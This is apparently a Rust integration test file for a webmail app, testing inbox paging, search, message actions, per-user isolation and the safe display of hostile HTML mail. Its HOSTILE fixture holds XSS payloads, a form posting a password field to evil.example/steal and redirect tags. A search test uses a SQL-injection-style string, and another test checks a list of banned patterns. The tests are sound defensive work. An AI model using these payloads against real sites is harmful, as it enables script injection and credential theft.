//! The inbox, folders, search, actions and the message view, over real HTTP; and that no
//! route shows one user another user's mail.

use std::collections::HashSet;

use crate::helpers::web::{USER_PASSWORD, WebClient, deliver, text_message};
use crate::helpers::{TestApp, TestDb, add_account, add_user, test_key_ring};

fn ids_in(html: &str) -> Vec<i64> {
    html.match_indices("<a class=\"row\" href=\"/messages/")
        .map(|(at, m)| {
            let rest = &html[at + m.len()..];
            rest[..rest.find('"').expect("quote")].parse().expect("id")
        })
        .collect()
}

fn date(day: u32, minute: u32) -> String {
    format!("Mon, {day:02} Nov 2026 10:{minute:02}:00 +0000")
}

#[tokio::test]
async fn the_inbox_combines_accounts_newest_first_and_pages_by_keyset() {
    let db = TestDb::new().await;
    let ring = test_key_ring();
    let ann = add_user(&db, "ann").await;
    let work = add_account(&db, &ring, ann.id, "Work", "pw").await;
    let home = add_account(&db, &ring, ann.id, "Home", "pw").await;
    // 120 messages alternating between the accounts, one minute apart.
    let mut expected = Vec::new();
    for i in 0..120u32 {
        let account = if i % 2 == 0 { &work } else { &home };
        let raw = text_message(
            &format!("Sender {i} <s{i}@example.org>"),
            &format!("Subject number {i}"),
            "body",
            &date(1 + i / 60, i % 60),
        );
        expected.push(deliver(&db, ann.id, account.id, &format!("u{i}"), &raw).await);
    }
    expected.reverse(); // newest first
    let app = TestApp::spawn(&db).await;
    let mut web = WebClient::signed_in(&app, &ann.email, USER_PASSWORD).await;

    let first = web.get("/").await;
    assert_eq!(first.status, 200);
    assert!(
        first
            .body
            .contains("<title>Inbox (99+) · Tributary</title>"),
        "tab title"
    );
    assert!(first.body.contains("Work"));
    assert!(first.body.contains("Home"));
    assert_eq!(first.body.matches("class=\"message unread\"").count(), 50);
    let mut seen = ids_in(&first.body);
    assert_eq!(seen, expected[..50]);
    assert!(
        !first.body.contains("rel=\"prev\""),
        "no newer page on the first"
    );

    let mut page = first;
    let mut pages = 1;
    while let Some(at) = page.body.find("rel=\"next\"") {
        let href_start = page.body[..at].rfind("href=\"").expect("href") + 6;
        let href = page.body[href_start..]
            .split('"')
            .next()
            .expect("href")
            .replace("&#38;", "&");
        assert!(href.contains("before="), "{href}");
        page = web.get(&href).await;
        assert_eq!(page.status, 200);
        seen.extend(ids_in(&page.body));
        pages += 1;
    }
    assert_eq!(pages, 3);
    assert_eq!(seen, expected, "every message once, in order");

    // "Newer" from the last page leads back to the middle page exactly.
    let at = page.body.find("rel=\"prev\"").expect("newer link");
    let href_start = page.body[..at].rfind("href=\"").expect("href") + 6;
    let href = page.body[href_start..]
        .split('"')
        .next()
        .expect("href")
        .replace("&#38;", "&");
    let middle = web.get(&href).await;
    assert_eq!(ids_in(&middle.body), expected[50..100]);

    // One account only.
    let only_work = web.get(&format!("/?account={}", work.id)).await;
    let work_ids = ids_in(&only_work.body);
    assert_eq!(work_ids.len(), 50);
    assert!(only_work.body.contains("aria-current=\"page\""));
    let work_set: HashSet<i64> = expected.iter().copied().step_by(2).collect();
    assert!(
        work_ids.iter().all(|id| work_set.contains(id))
            || work_ids.iter().all(|id| !work_set.contains(id))
    );
    assert_eq!(web.get("/?account=not-a-uuid").await.status, 404);
    assert_eq!(web.get("/?before=garbage").await.status, 400);

    // The colours come from a stylesheet, not inline styles.
    let css = web.get("/accounts.css").await;
    assert_eq!(css.status, 200);
    assert!(
        css.body
            .contains(&format!(".chip-{}{{--chip:#3b6fd4}}", work.id.simple()))
    );
    assert!(!first_page_has_inline_style(&web.get("/").await.body));
}

fn first_page_has_inline_style(html: &str) -> bool {
    html.contains(" style=") || html.contains("<script>") || html.contains("onclick=")
}

#[tokio::test]
async fn search_marks_matches_and_actions_move_messages_between_folders() {
    let db = TestDb::new().await;
    let ring = test_key_ring();
    let ann = add_user(&db, "ann").await;
    let work = add_account(&db, &ring, ann.id, "Work", "pw").await;
    let invoice = deliver(
        &db,
        ann.id,
        work.id,
        "a",
        &text_message(
            "Billing <billing@example.org>",
            "Your invoice for November",
            "The amount is due on Friday. Pay at https://pay.example.org/x.",
            &date(2, 0),
        ),
    )
    .await;
    let party = deliver(
        &db,
        ann.id,
        work.id,
        "b",
        &text_message(
            "Friends <f@example.org>",
            "Party",
            "Bring a <b>zanzibar</b> hat",
            &date(3, 0),
        ),
    )
    .await;
    let app = TestApp::spawn(&db).await;
    let mut web = WebClient::signed_in(&app, &ann.email, USER_PASSWORD).await;

    let found = web.get("/?q=invoice").await;
    assert_eq!(ids_in(&found.body), vec![invoice]);
    assert!(
        found.body.contains("<mark>invoice</mark>"),
        "{}",
        found.body
    );
    let body_word = web.get("/?q=zanzibar").await;
    assert_eq!(ids_in(&body_word.body), vec![party]);
    assert!(
        body_word
            .body
            .contains("&#60;b&#62;<mark>zanzibar</mark>&#60;/b&#62;"),
        "snippet text is escaped: {}",
        &body_word.body[body_word.body.find("snippet").unwrap_or(0)..][..300]
    );
    let sender = web.get("/?q=billing").await;
    assert_eq!(ids_in(&sender.body), vec![invoice]);
    let none = web.get("/?q=%22no+such+phrase%22").await;
    assert!(ids_in(&none.body).is_empty());
    assert!(none.body.contains("No messages match"));
    let hostile = web
        .get("/?q=%27%29%3B+DROP+TABLE+messages%3B+--+%26+%7C+%21")
        .await;
    assert_eq!(hostile.status, 200, "any text is a valid search");
    let nul = web.get("/?q=zanzibar%00").await;
    assert_eq!(nul.status, 200, "even a NUL (found by the API fuzzer)");
    assert_eq!(ids_in(&nul.body), vec![party]);

    // Words are runs of letters and digits (mail::search), in messages and searches alike:
    // an address is found as the phrase it is, and an excluded word with punctuation
    // inside is excluded.
    let address = web.get("/?q=billing%40example.org").await;
    assert_eq!(ids_in(&address.body), vec![invoice]);
    let wrong_order = web.get("/?q=%22example+billing%22").await;
    assert!(
        ids_in(&wrong_order.body).is_empty(),
        "a phrase keeps its order"
    );
    let mail_about = deliver(
        &db,
        ann.id,
        work.id,
        "c",
        &text_message(
            "Friends <f@example.org>",
            "Hats",
            "Send an e-mail about the zanzibar hats",
            &date(1, 0),
        ),
    )
    .await;
    let both = web.get("/?q=zanzibar").await;
    assert_eq!(ids_in(&both.body), vec![party, mail_about]);
    let excluded = web.get("/?q=zanzibar+-e-mail").await;
    assert_eq!(ids_in(&excluded.body), vec![party]);
    // A message stored before (its vector made by PostgreSQL's to_tsvector, which keeps
    // an address as one word) is still found by its address, and only it is.
    let legacy = deliver(
        &db,
        ann.id,
        work.id,
        "d",
        &text_message(
            "Old <old@example.org>",
            "Archive",
            "From last year",
            &date(1, 30),
        ),
    )
    .await;
    sqlx::query(
        "UPDATE messages SET search = to_tsvector('simple', 'Old old@example.org Archive e-mail zanzibar'),
             search_legacy = true WHERE id = $1",
    )
    .bind(legacy)
    .execute(&db.pool)
    .await
    .expect("an old-style vector");
    let old = web.get("/?q=old%40example.org").await;
    assert_eq!(ids_in(&old.body), vec![legacy]);
    let excluded = web.get("/?q=zanzibar+-e-mail").await;
    assert_eq!(ids_in(&excluded.body), vec![party]);
    sqlx::query(
        "WITH gone AS (DELETE FROM messages WHERE id = ANY($1) RETURNING account_id, uidl)
         DELETE FROM account_uidls u USING gone
         WHERE u.account_id = gone.account_id AND u.uidl = gone.uidl",
    )
    .bind([mail_about, legacy])
    .execute(&db.pool)
    .await
    .expect("back to the two messages");

    // Star, then Starred lists it.
    let starred = web
        .submit(
            "/messages/actions",
            &[
                ("action", "star"),
                ("id", &party.to_string()),
                ("return_to", "/"),
            ],
        )
        .await;
    assert_eq!(starred.status, 303);
    assert_eq!(starred.location.as_deref(), Some("/"));
    assert_eq!(ids_in(&web.get("/starred").await.body), vec![party]);

    // Mark both read; then one unread again.
    let both = [
        ("action", "read"),
        ("id", &invoice.to_string()),
        ("id", &party.to_string()),
    ];
    web.submit("/messages/actions", &both).await;
    assert_eq!(
        web.get("/")
            .await
            .body
            .matches("class=\"message unread\"")
            .count(),
        0
    );
    web.submit(
        "/messages/actions",
        &[("action", "unread"), ("id", &invoice.to_string())],
    )
    .await;
    let inbox = web.get("/").await;
    assert_eq!(inbox.body.matches("class=\"message unread\"").count(), 1);
    assert!(inbox.body.contains("<title>Inbox (1) · Tributary</title>"));

    // Trash, restore, delete forever, empty trash.
    web.submit(
        "/messages/actions",
        &[("action", "trash"), ("id", &party.to_string())],
    )
    .await;
    assert_eq!(ids_in(&web.get("/").await.body), vec![invoice]);
    assert_eq!(ids_in(&web.get("/trash").await.body), vec![party]);
    assert!(
        ids_in(&web.get("/starred").await.body).is_empty(),
        "trashed mail leaves Starred"
    );
    web.submit(
        "/messages/actions",
        &[("action", "restore"), ("id", &party.to_string())],
    )
    .await;
    assert_eq!(ids_in(&web.get("/").await.body), vec![party, invoice]);
    web.submit(
        "/messages/actions",
        &[("action", "delete"), ("id", &party.to_string())],
    )
    .await;
    assert_eq!(
        ids_in(&web.get("/").await.body).len(),
        2,
        "only trashed mail is deleted"
    );
    web.submit(
        "/messages/actions",
        &[
            ("action", "trash"),
            ("id", &party.to_string()),
            ("id", &invoice.to_string()),
        ],
    )
    .await;
    let emptied = web
        .submit(
            "/messages/actions",
            &[("action", "empty_trash"), ("return_to", "/trash")],
        )
        .await;
    assert_eq!(emptied.location.as_deref(), Some("/trash"));
    let count: i64 = sqlx::query_scalar("SELECT count(*) FROM messages")
        .fetch_one(&db.pool)
        .await
        .expect("count");
    assert_eq!(count, 0);
    let uidls: i64 = sqlx::query_scalar("SELECT count(*) FROM account_uidls")
        .fetch_one(&db.pool)
        .await
        .expect("count");
    assert_eq!(uidls, 2, "deleted mail is not downloaded again");
    assert_eq!(
        web.submit("/messages/actions", &[("action", "explode")])
            .await
            .status,
        400
    );
}

const HOSTILE: &str = "From: Mallory <m@evil.example>\r\nTo: ann@example.org\r\nSubject: hostile\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n\
<p>Hello <b>there</b></p><script>window.pwned=1</script><img src=x onerror=\"window.pwned=2\">\
<a href=\"javascript:window.pwned=3\">click</a><svg onload=\"window.pwned=4\"></svg>\
<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><base href=\"https://evil.example/\">\
<form action=\"https://evil.example/steal\"><input name=pw></form><iframe src=\"https://evil.example/\"></iframe>\
<img src=\"http://127.0.0.1:9/track.gif\"><a href=\"https://example.org/safe\">safe link</a>\r\n--XX\r\n\
Content-Type: text/html; name=\"payload.html\"\r\nContent-Disposition: attachment; filename=\"payload.html\"\r\n\r\n\
<script>alert(1)</script>\r\n--XX--\r\n";

#[tokio::test]
async fn the_message_view_sandboxes_html_and_serves_originals_and_attachments_safely() {
    let db = TestDb::new().await;
    let ring = test_key_ring();
    let ann = add_user(&db, "ann").await;
    let work = add_account(&db, &ring, ann.id, "Work", "pw").await;
    let hostile = deliver(&db, ann.id, work.id, "h", HOSTILE.as_bytes()).await;
    let plain_raw = text_message(
        "Bob <bob@example.org>",
        "Links <here>",
        "See https://example.org/page?a=1&b=2. Not javascript:alert(1)",
        &date(5, 0),
    );
    let plain = deliver(&db, ann.id, work.id, "p", &plain_raw).await;
    let app = TestApp::spawn(&db).await;
    let mut web = WebClient::signed_in(&app, &ann.email, USER_PASSWORD).await;

    let page = web.get(&format!("/messages/{hostile}")).await;
    assert_eq!(page.status, 200);
    assert!(
        page.body
            .contains("sandbox=\"allow-popups allow-popups-to-escape-sandbox\"")
    );
    assert!(!page.body.contains("allow-scripts"));
    assert!(!page.body.contains("allow-same-origin"));
    assert!(page.body.contains("Show images"));
    assert!(
        !page.body.contains("window.pwned"),
        "the page itself never holds the HTML"
    );
    assert!(page.body.contains("payload.html"));
    let csp = page.headers["content-security-policy"]
        .to_str()
        .expect("csp");
    assert!(
        csp.contains("script-src 'self'") && csp.contains("frame-src 'self'"),
        "{csp}"
    );
    assert_eq!(page.headers["x-frame-options"], "DENY");

    let body = web.get(&format!("/messages/{hostile}/body")).await;
    assert_eq!(body.status, 200);
    let csp = body.headers["content-security-policy"]
        .to_str()
        .expect("csp");
    assert!(csp.contains("sandbox"), "{csp}");
    assert!(csp.contains("img-src data:;"), "{csp}");
    assert!(
        !csp.contains("script-src"),
        "no script source at all: {csp}"
    );
    assert_eq!(body.headers["x-frame-options"], "SAMEORIGIN");
    let lower = body.body.to_ascii_lowercase();
    for banned in [
        "<script",
        "onerror",
        "javascript:",
        "<svg",
        "<meta http",
        "<base",
        "<form",
        "<iframe",
        "127.0.0.1:9",
        "evil.example",
    ] {
        assert!(!lower.contains(banned), "{banned} in {}", body.body);
    }
    assert!(body.body.contains("Hello <b>there</b>"));
    assert!(body.body.contains("href=\"https://example.org/safe\""));
    assert!(body.body.contains("target=\"_blank\""));

    let shown = web.get(&format!("/messages/{hostile}/body?images=1")).await;
    assert!(shown.body.contains("http://127.0.0.1:9/track.gif"));
    let csp = shown.headers["content-security-policy"]
        .to_str()
        .expect("csp");
    assert!(csp.contains("img-src data: https: http:"), "{csp}");
    let page = web.get(&format!("/messages/{hostile}?images=1")).await;
    assert!(
        page.body
            .contains(&format!("/messages/{hostile}/body?images=1"))
    );
    assert!(!page.body.contains("Show images"));

    // Attachments always download, typed as declared but never sniffed or run.
    let file = web.get(&format!("/messages/{hostile}/attachments/0")).await;
    assert_eq!(file.status, 200);
    assert_eq!(
        file.headers["content-disposition"],
        "attachment; filename=\"payload.html\"; filename*=UTF-8''payload.html"
    );
    assert_eq!(file.headers["x-content-type-options"], "nosniff");
    assert!(
        file.headers["content-security-policy"]
            .to_str()
            .expect("csp")
            .contains("sandbox")
    );
    assert!(file.body.contains("<script>alert(1)</script>"));
    assert_eq!(
        web.get(&format!("/messages/{hostile}/attachments/1"))
            .await
            .status,
        404
    );

    // The original, byte for byte.
    let raw = web.get(&format!("/messages/{hostile}/raw")).await;
    assert_eq!(raw.status, 200);
    assert_eq!(raw.bytes, HOSTILE.as_bytes());
    assert!(
        raw.headers["content-type"]
            .to_str()
            .expect("type")
            .starts_with("text/plain")
    );
    assert!(
        raw.headers["content-security-policy"]
            .to_str()
            .expect("csp")
            .contains("sandbox")
    );
    let download = web
        .get(&format!("/messages/{hostile}/raw?download=1"))
        .await;
    assert_eq!(download.headers["content-type"], "message/rfc822");
    assert_eq!(download.bytes, HOSTILE.as_bytes());

    // A text message: escaped, with its link made clickable and nothing else.
    let text = web.get(&format!("/messages/{plain}")).await;
    assert!(
        text.body.contains("Links &#60;here&#62;"),
        "{}",
        &text.body[text.body.find("message-subject").unwrap_or(0)..][..200]
    );
    assert!(text.body.contains(
        "<a href=\"https://example.org/page?a=1&#38;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">"
    ), "{}", text.body);
    assert!(!text.body.contains("href=\"javascript"));
    assert!(!text.body.contains("<iframe class=\"mail-body\""));
    // Opening marked it read; previous/next link the neighbours.
    let seen: bool = sqlx::query_scalar("SELECT seen FROM messages WHERE id = $1")
        .bind(plain)
        .fetch_one(&db.pool)
        .await
        .expect("seen");
    assert!(seen);
    assert!(
        text.body
            .contains(&format!("href=\"/messages/{hostile}\" rel=\"next\""))
            || text
                .body
                .contains(&format!("href=\"/messages/{hostile}\" rel=\"prev\""))
    );
    assert_eq!(web.get("/messages/999999").await.status, 404);
}

#[tokio::test]
async fn no_route_shows_or_changes_another_users_mail() {
    let db = TestDb::new().await;
    let ring = test_key_ring();
    let ann = add_user(&db, "ann").await;
    let bob = add_user(&db, "bob").await;
    let anns = add_account(&db, &ring, ann.id, "AnnWork", "pw").await;
    let message = deliver(&db, ann.id, anns.id, "a", HOSTILE.as_bytes()).await;
    let app = TestApp::spawn(&db).await;
    let mut bob_web = WebClient::signed_in(&app, &bob.email, USER_PASSWORD).await;

    for path in [
        format!("/messages/{message}"),
        format!("/messages/{message}/body"),
        format!("/messages/{message}/body?images=1"),
        format!("/messages/{message}/raw"),
        format!("/messages/{message}/raw?download=1"),
        format!("/messages/{message}/attachments/0"),
        format!("/?account={}", anns.id),
    ] {
        let page = bob_web.get(&path).await;
        assert_eq!(page.status, 404, "{path}");
        assert!(
            !page.body.contains("hostile") && !page.body.contains("AnnWork"),
            "{path}"
        );
    }
    let inbox = bob_web.get("/").await;
    assert!(ids_in(&inbox.body).is_empty());
    assert!(!inbox.body.contains("AnnWork"));
    assert!(
        !bob_web
            .get("/accounts.css")
            .await
            .body
            .contains(&anns.id.simple().to_string())
    );
    let search = bob_web.get("/?q=hostile").await;
    assert!(ids_in(&search.body).is_empty());

    for action in ["star", "read", "trash"] {
        let done = bob_web
            .submit(
                "/messages/actions",
                &[("action", action), ("id", &message.to_string())],
            )
            .await;
        assert_eq!(done.status, 303);
    }
    bob_web
        .submit("/messages/actions", &[("action", "empty_trash")])
        .await;
    let (seen, starred, trashed): (bool, bool, bool) =
        sqlx::query_as("SELECT seen, starred, trashed_at IS NOT NULL FROM messages WHERE id = $1")
            .bind(message)
            .fetch_one(&db.pool)
            .await
            .expect("ann's message is untouched");
    assert_eq!((seen, starred, trashed), (false, false, false));
}

#[tokio::test]
async fn unread_counts_stop_at_99_plus() {
    let db = TestDb::new().await;
    let ring = test_key_ring();
    let ann = add_user(&db, "ann").await;
    let work = add_account(&db, &ring, ann.id, "Work", "pw").await;
    sqlx::query(
        "INSERT INTO messages (user_id, account_id, uidl, size_bytes, raw, subject)
         SELECT $1, $2, 'u' || g, 3, '\\x616263', 'bulk ' || g FROM generate_series(1, 101) g",
    )
    .bind(ann.id)
    .bind(work.id)
    .execute(&db.pool)
    .await
    .expect("bulk insert");
    let app = TestApp::spawn(&db).await;
    let mut web = WebClient::signed_in(&app, &ann.email, USER_PASSWORD).await;
    let inbox = web.get("/").await;
    assert!(
        inbox
            .body
            .contains("<title>Inbox (99+) · Tributary</title>"),
        "tab title"
    );
    assert_eq!(
        inbox.body.matches(">99+</span>").count(),
        2,
        "inbox and account"
    );
    web.submit(
        "/messages/actions",
        &[
            ("action", "read"),
            ("id", &ids_in(&inbox.body)[0].to_string()),
        ],
    )
    .await;
    // 100 unread left: still at the cap.
    assert!(web.get("/").await.body.contains("Inbox (99+)"));
    sqlx::query("UPDATE messages SET seen = true WHERE id IN (SELECT id FROM messages WHERE NOT seen LIMIT 2)")
        .execute(&db.pool)
        .await
        .expect("read two");
    assert!(
        web.get("/")
            .await
            .body
            .contains("<title>Inbox (98) · Tributary</title>")
    );
}

#[tokio::test]
async fn searches_for_common_and_rare_words_page_correctly_in_a_big_mailbox() {
    let db = TestDb::new().await;
    let ring = test_key_ring();
    let ann = add_user(&db, "ann").await;
    let work = add_account(&db, &ring, ann.id, "Work", "pw").await;
    // 5,000 messages, newest first by g; every one says "common", two far apart "rareword".
    sqlx::query(
        "INSERT INTO messages (user_id, account_id, uidl, size_bytes, raw, subject, sort_at, search)
         SELECT $1, $2, 'u' || g, 3, '\\x616263', s, now() - g * interval '1 minute',
                to_tsvector('simple', s)
         FROM generate_series(1, 5000) g,
              LATERAL (SELECT 'common ' || g || CASE WHEN g IN (10, 4900) THEN ' rareword' ELSE '' END AS s) x",
    )
    .bind(ann.id)
    .bind(work.id)
    .execute(&db.pool)
    .await
    .expect("bulk insert");
    let app = TestApp::spawn(&db).await;
    let mut web = WebClient::signed_in(&app, &ann.email, USER_PASSWORD).await;

    let rare = web.get("/?q=rareword").await;
    assert_eq!(
        rare.body.matches("<a class=\"row\"").count(),
        2,
        "the old match too"
    );
    assert!(rare.body.contains("common 10 <mark>rareword</mark>"));
    assert!(rare.body.contains("common 4900 <mark>rareword</mark>"));

    // A common word: full pages straight from the newest mail, and paging goes on past them.
    let mut page = web.get("/?q=common").await;
    let mut subjects = Vec::new();
    for _ in 0..3 {
        let ids = ids_in(&page.body);
        assert_eq!(ids.len(), 50);
        subjects.extend(ids);
        let at = page.body.find("rel=\"next\"").expect("older link");
        let href_start = page.body[..at].rfind("href=\"").expect("href") + 6;
        let href = page.body[href_start..]
            .split('"')
            .next()
            .expect("href")
            .replace("&#38;", "&");
        page = web.get(&href).await;
    }
    let unique: HashSet<i64> = subjects.iter().copied().collect();
    assert_eq!(unique.len(), 150);
    // Ids grow with g while dates shrink: newest first means ascending ids here.
    let mut sorted = subjects.clone();
    sorted.sort_unstable();
    assert_eq!(subjects, sorted, "newest first across pages");

    // Deep in the mailbox (past the first 4,000 from the cursor), the rare word is still found.
    let deep_cursor: String = sqlx::query_scalar(
        "SELECT (extract(epoch FROM sort_at) * 1000000)::bigint || '_' || id FROM messages
         WHERE subject = 'common 100'",
    )
    .fetch_one(&db.pool)
    .await
    .expect("cursor");
    let deep = web.get(&format!("/?q=rareword&before={deep_cursor}")).await;
    assert_eq!(deep.body.matches("<a class=\"row\"").count(), 1);
    assert!(deep.body.contains("common 4900"));
}
